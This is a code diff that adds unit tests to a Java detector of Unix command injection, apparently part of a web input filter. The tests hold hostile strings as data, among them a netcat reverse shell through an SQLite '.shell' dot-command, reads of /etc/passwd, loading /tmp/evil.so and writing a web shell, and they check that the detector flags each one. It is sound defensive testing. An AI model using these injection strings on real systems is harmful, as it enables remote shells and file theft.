@@ -343,6 +343,46 @@ class UnixCommandDetectorTest {
         assertThat(standard(detector, value)).isEmpty();
     }
 
+    @Test
+    void detectsXtermDisplayedOnRemoteHost() {
+        assertThat(standard(detector, ";xterm -display 10.0.0.1:1")).contains("UNIXCMD-CHAIN");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"time who", "'time' who", "\"time\" who", "nice id"})
+    void reportsPrefixCommandRunningAnotherOnlyWhenStrict(String value) {
+        assertThat(standard(detector, value)).isEmpty();
+        assertThat(strict(detector, value)).contains("UNIXCMD-WEAK");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"Sh -c whoami", "'TiMe Sh -c whoami", "Sh -c 'cat /etc/passwd'"})
+    void blocksShellGivenCommandStringWhateverTheCaseOfItsName(String value) {
+        assertThat(standard(detector, value)).contains("UNIXCMD-COMMAND");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"Sh -c hello", "Fish -c salmon", "Rc -c circuit"})
+    void allowsCapitalisedShellNameWithoutKnownCommand(String value) {
+        assertThat(standard(detector, value)).isEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"1;.sh whoami", "1;.shell whoami", "1; .system id", ";\n.databases", "x;\n.import /etc/passwd t",
+        "\";\\n. shell nc 10.10.10.1 6666 -e sh\\n", "1;.\\\"shell whoami", "1;.\\'shell whoami", "1\n.load /tmp/evil.so",
+        "');\r\n.output /var/www/shell.php"})
+    void blocksSqliteDotCommandAfterSeparator(String value) {
+        assertThat(standard(detector, value)).contains("UNIXCMD-SQLITE-DOT-COMMAND");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"body { color: red; }\n.tables td { padding: 0 }", "$('#x')\n.load(\"/a\")",
+        "Done;.output-area", "It ends here;. Tables are nice", "Wait...\n...read more", "see .shell docs",
+        "a;.Shell whoami", "v1.2;.net", "promise\n  .then(done)"})
+    void allowsDotWordsThatAreNoSqliteDotCommand(String value) {
+        assertThat(standard(detector, value)).doesNotContain("UNIXCMD-SQLITE-DOT-COMMAND");
+    }
+
     @ParameterizedTest
     @ValueSource(strings = {"$((", "$[1+", "${a#", "~-", "!-1", "; sleep 5", "`id`", "{a;", "1\n"})
     void finishesQuicklyOnMegabyteOfNewEvidence(String unit) {
@@ -351,7 +391,8 @@ class UnixCommandDetectorTest {
     }
 
     @ParameterizedTest
-    @ValueSource(strings = {"'((((", "<<<<", "${${${", ";;;;", "$($($(", "`", "{a,{a,{a,", "\\", "$'\\x", "a=b;"})
+    @ValueSource(strings = {"'((((", "<<<<", "${${${", ";;;;", "$($($(", "`", "{a,{a,{a,", "\\", "$'\\x", "a=b;", "\n",
+        ";\\n ", ";.\"", ";. "})
     void finishesQuicklyOnMegabyteOfRepetitiveInput(String unit) {
         String value = unit.repeat((1 << 20) / unit.length());
         assertTimeoutPreemptively(Duration.ofSeconds(10), () -> standard(detector, value));
